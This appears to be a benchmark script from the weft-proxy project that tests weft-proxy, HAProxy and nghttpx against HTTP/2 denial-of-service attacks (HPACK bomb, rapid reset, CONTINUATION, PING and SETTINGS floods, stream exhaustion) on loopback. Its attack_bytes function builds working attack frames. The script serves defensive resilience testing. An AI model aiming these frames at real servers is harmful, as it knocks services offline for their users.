#!/usr/bin/env python3
"""HTTP/2 attacks against weft-proxy, HAProxy and nghttpx: the same bytes to each, one run.

Each target: one worker (weft-proxy --concurrency 1, HAProxy nbthread 1, nghttpx --workers=1)
serving h2c on loopback in front of one HTTP/1.1 upstream (a Python server that answers at
once, except under /hold, where it holds requests and counts its connections). Each attack
runs against a freshly started target while another client sends an HTTP/1.1 GET every 50 ms.

Per attack and target: the target's peak RSS growth (MB, sampled every 20 ms), CPU seconds
it spent (utime+stime of its processes, from the attack's start to 1 s after), the other
client's slowest answer (ms), the upstream's peak connection count, and what the attacker saw
(GOAWAY code and last stream, resets, connection closed or still open).

Attacks: hpack_bomb (one 4 KB header inserted, then 200 HEADERS frames of 16,000 one-byte
references to it), streams_5000 (5,000 streams to /hold on one connection, never read),
continuation_flood (HEADERS and 2,000 CONTINUATION frames), ping_flood and settings_flood
(50,000 frames, never read), rapid_reset (3,000 HEADERS + RST_STREAM pairs).
"""

import argparse
import os
import resource
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(REPO, "tests", "integration"))
from h2_client import (CONTINUATION, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM,  # noqa: E402
                       SETTINGS, H2Conn, hpack_int, hpack_literal)
from hold_server import HoldServer  # noqa: E402

TARGETS = ["weft", "haproxy", "nghttpx"]
ATTACKS = ["hpack_bomb", "streams_5000", "continuation_flood", "ping_flood", "settings_flood", "rapid_reset"]


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


def proc_tree(pid):
    out, todo = [], [pid]
    while todo:
        p = todo.pop()
        out.append(p)
        try:
            with open("/proc/%d/task/%d/children" % (p, p)) as f:
                todo += [int(x) for x in f.read().split()]
        except OSError:
            pass
    return out


def rss_kb(pids):
    total = 0
    for p in pids:
        try:
            with open("/proc/%d/status" % p) as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        total += int(line.split()[1])
        except OSError:
            pass
    return total


def cpu_s(pids):
    total = 0
    for p in pids:
        try:
            with open("/proc/%d/stat" % p) as f:
                fields = f.read().rsplit(")", 1)[1].split()
            total += int(fields[11]) + int(fields[12])
        except OSError:
            pass
    return total / os.sysconf("SC_CLK_TCK")


def weft_config(port, admin, up):
    return f"""node: {{id: attacks, cluster: bench}}
admin: {{address: {{socket_address: {{address: 127.0.0.1, port_value: {admin}}}}}}}
static_resources:
  listeners:
  - name: h2
    address: {{socket_address: {{address: 127.0.0.1, port_value: {port}}}}}
    filter_chains:
    - filters:
      - name: envoy.filters.network.http_connection_manager
        typed_config:
          "@type": type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager
          stat_prefix: attacks
          route_config:
            virtual_hosts: [{{name: all, domains: ["*"], routes: [{{match: {{prefix: "/"}}, route: {{cluster: up}}}}]}}]
          http_filters:
          - name: envoy.filters.http.router
            typed_config: {{"@type": type.googleapis.com/envoy.extensions.filters.http.router.v3.Router}}
  clusters:
  - name: up
    type: STATIC
    connect_timeout: 2s
    load_assignment:
      cluster_name: up
      endpoints: [{{lb_endpoints: [{{endpoint: {{address: {{socket_address: {{address: 127.0.0.1, port_value: {up}}}}}}}}}]}}]
"""


def haproxy_config(port, up):
    return f"""global
    nbthread 1
    maxconn 8000
defaults
    mode http
    timeout connect 2s
    timeout client 30s
    timeout server 30s
frontend fe
    bind 127.0.0.1:{port}
    default_backend be
backend be
    server up 127.0.0.1:{up}
"""


class Target:
    def __init__(self, name, proxy_bin, tmp, up):
        self.name, self.port = name, free_port()
        log = open(os.path.join(tmp, "%s.log" % name), "ab")
        if name == "weft":
            cfg = os.path.join(tmp, "weft.yaml")
            with open(cfg, "w") as f:
                f.write(weft_config(self.port, free_port(), up))
            argv = [proxy_bin, "-c", cfg, "--concurrency", "1", "--log-level", "warning"]
        elif name == "haproxy":
            cfg = os.path.join(tmp, "haproxy.cfg")
            with open(cfg, "w") as f:
                f.write(haproxy_config(self.port, up))
            argv = ["haproxy", "-f", cfg, "-db"]
        else:
            open(os.path.join(tmp, "nghttpx.conf"), "w").close()
            argv = ["nghttpx", "--conf=%s/nghttpx.conf" % tmp, "--frontend=127.0.0.1,%d;no-tls" % self.port,
                    "--backend=127.0.0.1,%d" % up, "--workers=1", "--no-ocsp",
                    "--errorlog-file=%s/nghttpx-error.log" % tmp]
        self.proc = subprocess.Popen(argv, stdout=log, stderr=log, stdin=subprocess.DEVNULL)
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            try:
                socket.create_connection(("127.0.0.1", self.port), timeout=0.2).close()
                break
            except OSError:
                time.sleep(0.05)
        else:
            raise RuntimeError("%s did not start (see %s)" % (name, log.name))
        time.sleep(0.3)

    def pids(self):
        return proc_tree(self.proc.pid)

    def stop(self):
        self.proc.terminate()
        try:
            self.proc.wait(5)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()


class Bystander(threading.Thread):
    def __init__(self, port):
        super().__init__(daemon=True)
        self.port, self.worst, self.failed, self.stop_ev = port, 0.0, 0, threading.Event()
        self.start()

    def run(self):
        req = b"GET /bystander HTTP/1.1\r\nhost: b\r\nconnection: close\r\n\r\n"
        while not self.stop_ev.is_set():
            t0 = time.monotonic()
            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=10) as s:
                    s.sendall(req)
                    data = b""
                    while True:
                        d = s.recv(65536)
                        if not d:
                            break
                        data += d
                    if b" 200 " not in data.split(b"\r\n", 1)[0]:
                        self.failed += 1
            except OSError:
                self.failed += 1
            self.worst = max(self.worst, time.monotonic() - t0)
            self.stop_ev.wait(0.05)


def block(path, extra=b""):
    return b"".join(hpack_literal(k, v) for k, v in [(":method", "GET"), (":scheme", "http"), (":path", path),
                                                      (":authority", "attack")]) + extra


def attack_bytes(kind, bomb_frames=200):
    f = H2Conn._frame
    if kind == "hpack_bomb":
        big = b"x" * 4000
        insert = b"\x40" + hpack_int(7, 7) + b"x-bloat" + hpack_int(len(big), 7) + big
        first = f(HEADERS, END_HEADERS | END_STREAM, 1, block("/one", insert))
        bomb = block("/bomb") + b"\xbe" * 16000
        return [first] + [f(HEADERS, END_HEADERS | END_STREAM, 3 + 2 * i, bomb) for i in range(bomb_frames)]
    if kind == "streams_5000":
        return [b"".join(f(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, block("/hold/%d" % i)) for i in range(5000))]
    if kind == "continuation_flood":
        return [f(HEADERS, 0, 1, block("/c"))] + [f(CONTINUATION, 0, 1, hpack_literal("x-c%d" % i, "v"))
                                                  for i in range(2000)]
    if kind == "ping_flood":
        return [f(PING, 0, 0, b"12345678") * 50000]
    if kind == "settings_flood":
        return [f(SETTINGS, 0, 0, b"") * 50000]
    if kind == "rapid_reset":
        return [b"".join(f(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, block("/rr"))
                         + f(RST_STREAM, 0, 1 + 2 * i, struct.pack(">I", 8)) for i in range(3000))]
    raise ValueError(kind)


def run_attack(kind, target, hold, bomb_frames):
    pids = target.pids()
    base = rss_kb(pids)
    cpu0 = cpu_s(pids)
    hold.peak = hold.open_connections()
    peak = [base]
    sampling = threading.Event()

    def sample():
        while not sampling.is_set():
            peak[0] = max(peak[0], rss_kb(target.pids()))
            time.sleep(0.02)
    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    by = Bystander(target.port)
    c = H2Conn(target.port, timeout=10)
    if kind in ("ping_flood", "settings_flood", "streams_5000"):
        c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    try:
        for chunk in attack_bytes(kind, bomb_frames):
            c.sock.sendall(chunk)
    except OSError:
        pass
    if kind in ("ping_flood", "settings_flood", "streams_5000"):
        time.sleep(3)   # the attacker does not read
    c.read_until(lambda x: x.eof, timeout=5)
    time.sleep(1)
    sampling.set()
    sampler.join()
    by.stop_ev.set()
    by.join()
    cpu = cpu_s(target.pids()) - cpu0
    goaways = c.goaways()
    resets = sum(1 for fr in c.frames if fr.type == RST_STREAM)
    if goaways:
        outcome = "GOAWAY(%d) last=%d" % (goaways[-1][1], goaways[-1][0])
    else:
        outcome = "no GOAWAY"
    outcome += ", %d RST" % resets if resets else ""
    outcome += ", closed" if c.eof else ", open"
    c.close()
    return {"rss_mb": (peak[0] - base) / 1024.0, "cpu_s": cpu, "worst_ms": by.worst * 1000,
            "bystander_failed": by.failed, "up_peak": hold.peak, "outcome": outcome,
            "alive": target.proc.poll() is None}


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--proxy", default=os.path.join(REPO, "build", "bin", "weft-proxy"))
    ap.add_argument("--attacks", default=",".join(ATTACKS))
    ap.add_argument("--targets", default=",".join(TARGETS))
    ap.add_argument("--bomb-frames", type=int, default=200,
                    help="HPACK bomb frames (a build without header limits needs ~100 MB RSS per frame)")
    args = ap.parse_args()
    for tool in ("haproxy", "nghttpx"):
        if tool in args.targets and shutil.which(tool) is None:
            sys.exit("bench/h2_attacks.sh: %s not found (apt-get install haproxy nghttp2-proxy)" % tool)
    if not os.access(args.proxy, os.X_OK):
        sys.exit("bench/h2_attacks.sh: weft-proxy not found at %s (build it, or --proxy PATH)" % args.proxy)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    tmp = tempfile.mkdtemp(prefix="weft-attacks-")
    hold = HoldServer(answer_unless=b"/hold")
    rows = []
    try:
        for kind in args.attacks.split(","):
            for name in args.targets.split(","):
                t = Target(name, args.proxy, tmp, hold.port)
                try:
                    r = run_attack(kind, t, hold, args.bomb_frames)
                finally:
                    t.stop()
                    hold.release()
                    time.sleep(0.5)
                rows.append((kind, name, r))
                print("%-18s %-8s RSS +%7.1f MB  CPU %5.2f s  other client worst %7.0f ms%s  upstream peak %4d cx  %s%s"
                      % (kind, name, r["rss_mb"], r["cpu_s"], r["worst_ms"],
                         " (%d failed)" % r["bystander_failed"] if r["bystander_failed"] else "",
                         r["up_peak"], r["outcome"], "" if r["alive"] else "  DIED"), flush=True)
    finally:
        hold.stop()
    print("\nweft-proxy / peer (RSS growth, CPU):")
    for kind in args.attacks.split(","):
        weft = next((r for k, n, r in rows if k == kind and n == "weft"), None)
        for peer in ("haproxy", "nghttpx"):
            p = next((r for k, n, r in rows if k == kind and n == peer), None)
            if weft and p:
                print("  %-18s vs %-8s RSS %+.1f / %+.1f MB   CPU %.2f / %.2f s" % (
                    kind, peer, weft["rss_mb"], p["rss_mb"], weft["cpu_s"], p["cpu_s"]))
    bad = [k for k, n, r in rows if n == "weft" and (not r["alive"] or r["rss_mb"] > 50)]
    sys.exit(2 if bad else 0)


if __name__ == "__main__":
    main()
